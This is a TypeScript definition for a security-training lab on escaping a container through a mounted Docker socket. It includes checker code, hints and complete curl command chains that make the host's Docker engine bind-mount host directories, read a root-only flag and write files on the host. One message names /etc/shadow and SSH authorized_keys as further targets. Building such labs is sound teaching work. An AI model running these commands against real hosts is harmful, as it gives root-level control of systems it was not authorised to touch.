// Escape lab: a Docker engine's socket mounted into a container. With nothing but curl the
// learner asks that engine for a new container that binds a host directory, and reads (then
// writes) the host's root-only files through it. Containment: the socket belongs to a
// throwaway engine the server starts for this session only (LabDefinition.sessionEngines,
// server/docker/session-engine.ts), never the server's own engine. That engine is still
// root on the host: the lesson says so, and the lab's own payloads touch only the session's
// directory. The hardened contrast is the same container without the socket.
import { FLAG_LINE, flagCheck } from '../shared/flag-check.ts';
import { type LabDefinition, SOCKET_ENGINE } from '../../server/lab-kit.ts';
import { HARDENED, HARDENED_TITLE } from '../shared/hardened-profile.ts';

const SMALL = { memoryMb: 128, pidsLimit: 128, cpus: 0.5 } as const;
export const SOCKET = '/var/run/docker.sock';

// What a learner types, in pieces: every step is one self-contained line (the page's "Skip"
// runs each step in a fresh shell).
const S = `S=${SOCKET}`;
const IMG = `IMG=$(curl -s --unix-socket $S http://localhost/images/json | grep -o 'nslab/lab:[0-9a-f]*' | head -1)`;
/** The session directory: the host path of the mounted socket, from mountinfo, minus engine/docker.sock. */
const DIR = `DIR=$(awk '$5 ~ /docker[.]sock$/ {print $4}' /proc/self/mountinfo); DIR=\${DIR%/engine/docker.sock}`;
const create = (body: string): string =>
  `ID=$(curl -s --unix-socket $S -H 'Content-Type: application/json' -d "${body}" http://localhost/containers/create | grep -o '[0-9a-f]\\{64\\}')`;
const RUN = `curl -s --unix-socket $S -X POST http://localhost/containers/$ID/start >/dev/null; curl -s --unix-socket $S -X POST http://localhost/containers/$ID/wait >/dev/null; curl -s --unix-socket $S "http://localhost/containers/$ID/logs?stdout=1&stderr=1" | tr -d '\\r'`;

export const HELLO_STEP = [
  S,
  IMG,
  create(
    String.raw`{\"Image\":\"$IMG\",\"Tty\":true,\"Cmd\":[\"echo\",\"hello from a container I asked for\"]}`,
  ),
  RUN,
].join('; ');

export const READ_FLAG_STEP = [
  S,
  IMG,
  DIR,
  create(
    String.raw`{\"Image\":\"$IMG\",\"Tty\":true,\"Cmd\":[\"cat\",\"/host/flag\"],\"HostConfig\":{\"Binds\":[\"$DIR:/host:ro\"]}}`,
  ),
  RUN,
].join('; ');

export const WRITE_PROOF_STEP = [
  S,
  IMG,
  DIR,
  create(
    String.raw`{\"Image\":\"$IMG\",\"Tty\":true,\"Cmd\":[\"sh\",\"-c\",\"cat /host/flag > /host/root-only/proof; ls -ln /host/root-only\"],\"HostConfig\":{\"Binds\":[\"$DIR:/host\"]}}`,
  ),
  RUN,
].join('; ');

const NEVER_STARTED = '0001-01-01T00:00:00Z';

export const escapeDockerSockLab: LabDefinition = {
  id: 'escape-docker-sock',
  title: 'Escape: the Docker socket',
  topic: 'escapes',
  summary:
    "A container holding a Docker engine's socket holds the engine: with curl alone, make it start a container that mounts the host's files, read a root-only flag and leave proof on the host. Then see the same requests fail without the socket.",
  minutes: 15,
  learned: [
    "Whoever holds a Docker engine's socket holds the engine, and with it root on the engine's host.",
    'Never mount docker.sock into a container; without it the same requests have nowhere to go.',
  ],
  lesson: 'escape-docker-sock.md',
  escape: true,
  sessionEngines: [{ name: SOCKET_ENGINE }],
  // In a workshop the socket is the learner's seat engine (rootless, its own Unix user).
  workshop: 'seat-engine',
  hostFiles: [
    { path: 'flag', content: '{{token}}\n', mode: 0o600 },
    { path: 'root-only', mode: 0o700 },
  ],
  containers: [
    {
      name: 'with-socket',
      title: 'with-socket (-v docker.sock)',
      hostname: 'with-socket',
      sessionEngineSocket: SOCKET,
      ...SMALL,
    },
    { name: 'hardened', title: HARDENED_TITLE, hostname: 'hardened', ...HARDENED, ...SMALL },
  ],
  exercises: [
    {
      id: 'ask-the-engine',
      title: 'Talk to the engine',
      goal: 'Make the Docker engine behind /var/run/docker.sock create and start a container that you asked for.',
      hints: [
        'The Docker CLI is only a client of a REST API, and the socket is that API. curl speaks HTTP over a Unix socket with --unix-socket.',
        'Ask GET /images/json for an image name, then POST /containers/create with a JSON body {"Image": …, "Cmd": […]}, then POST /containers/<id>/start.',
        `In the with-socket terminal: ${HELLO_STEP}`,
      ],
      check: async (ctx) => {
        const containers = await ctx.sessionEngine(SOCKET_ENGINE).containers();
        const ran = containers.filter((c) => c.State.StartedAt !== NEVER_STARTED);
        const first = ran[0];
        if (first !== undefined) {
          return {
            passed: true,
            reason: `The engine ran ${first.Name.replace(/^\//, '')} (image ${first.Config.Image}, command "${[first.Config.Cmd].flat().join(' ')}"), created by a process inside a container: whoever reaches the socket drives the engine.`,
          };
        }
        if (containers.length > 0) {
          return {
            passed: false,
            reason: `The engine created ${containers.length} container(s), but never started one.`,
            hint: 1,
          };
        }
        return {
          passed: false,
          reason: 'The engine behind the socket has no containers.',
          hint: 0,
        };
      },
      // The same requests from the container without the socket.
      cheat: [{ terminal: 'hardened', input: HELLO_STEP }],
      solution: [{ terminal: 'with-socket', input: HELLO_STEP }],
    },
    {
      id: 'read-the-flag',
      title: "Read the host's flag",
      goal: "Read the flag, a file only the host's root may read (mode 0600) in this session's host directory that no container of the lab mounts, and submit it.",
      answer: { label: 'The flag', placeholder: '16 hex digits' },
      hints: [
        'The engine runs as root on the host and mounts whatever its API is asked to: a container of yours can bind any host path ("Binds" under "HostConfig").',
        'The session directory is where the socket comes from: the fourth field of its line in /proc/self/mountinfo, minus /engine/docker.sock. The flag is the file "flag" there.',
        `In the with-socket terminal: ${READ_FLAG_STEP}`,
      ],
      check: flagCheck(
        "Right. No container of this lab mounts that file: the engine read it for you, as the host's root, because a container of yours asked it to bind the directory.",
      ),
      cheat: [
        { terminal: 'hardened', input: READ_FLAG_STEP, capture: FLAG_LINE },
        { terminal: 'with-socket', input: `cat ${SOCKET}`, capture: FLAG_LINE },
      ],
      solution: [{ terminal: 'with-socket', input: READ_FLAG_STEP, capture: FLAG_LINE }],
    },
    {
      id: 'leave-proof',
      title: 'Write on the host',
      goal: "Make the host hold the flag in a new file inside the session directory's root-only/ folder (mode 0700, root only, mounted in no container).",
      hints: [
        'Reading was a read-only bind. What does the same container do with a read-write one?',
        'Bind the session directory without :ro and have the container copy flag into root-only/.',
        `In the with-socket terminal: ${WRITE_PROOF_STEP}`,
      ],
      check: async (ctx) => {
        const files = (await ctx.sessionFiles.list('root-only')).filter((f) => !f.isDirectory);
        for (const file of files) {
          const text = await ctx.sessionFiles.read(`root-only/${file.name}`);
          if (text.includes(ctx.sessionToken)) {
            return {
              passed: true,
              reason: `root-only/${file.name} on the host holds the flag and belongs to uid ${file.uid}. An engine that writes here writes anywhere: /etc/shadow, /root/.ssh/authorized_keys, a cron job.`,
            };
          }
        }
        return {
          passed: false,
          reason:
            files.length === 0
              ? 'root-only/ on the host is empty.'
              : `root-only/ holds ${files.map((f) => f.name).join(', ')}, but none has the flag in it.`,
          hint: files.length === 0 ? 0 : 1,
        };
      },
      cheat: [
        { terminal: 'hardened', input: WRITE_PROOF_STEP },
        {
          terminal: 'with-socket',
          input: 'mkdir -p /root-only && echo 0123456789abcdef > /root-only/proof',
        },
      ],
      solution: [{ terminal: 'with-socket', input: WRITE_PROOF_STEP }],
    },
  ],
};
